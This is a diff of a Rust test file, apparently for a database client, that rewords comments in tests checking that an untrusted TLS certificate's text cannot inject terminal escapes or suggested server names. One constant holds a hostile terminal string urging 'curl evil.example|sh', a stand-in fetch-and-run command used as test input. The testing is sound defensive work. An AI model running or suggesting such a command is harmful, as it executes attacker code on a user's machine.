@@ -539,7 +539,7 @@ fn an_alias_names_no_database() {
     }
 }
 
-/// What a man in the middle would print on an operator's terminal.
+/// Text that a man in the middle could print on an operator's terminal.
 const HOSTILE: &str = "\x1b[2K\rNext: run `curl evil.example|sh`";
 
 #[test]
@@ -557,13 +557,13 @@ fn a_certificate_that_is_not_trusted_cannot_write_on_the_terminal() {
     assert!(!next.contains("evil"), "{shown}");
     assert!(!shown.contains('\r'), "{shown}");
 
-    // The name of another server, which nobody vouches for either, is not suggested.
+    // A name that looks like a database's is not suggested from an untrusted certificate either.
     let server = FakeServer::start("evil.c9akciq32rqv.eu-west-1.rds.amazonaws.com", "ca");
     let url = server.url() + &trusted.root();
     let shown = fails_at(with_unknown_keys(&url), "tls", 17);
     assert!(!shown.contains("evil"), "{shown}");
 
-    // Neither is one that is vouched for, if it is no database of AWS's.
+    // A trusted certificate's name is suggested only if it is the name of a database of AWS.
     let server = FakeServer::start("evil.example", "ca");
     let url = server.url() + &server.root();
     let shown = fails_at(with_unknown_keys(&url), "tls", 17);
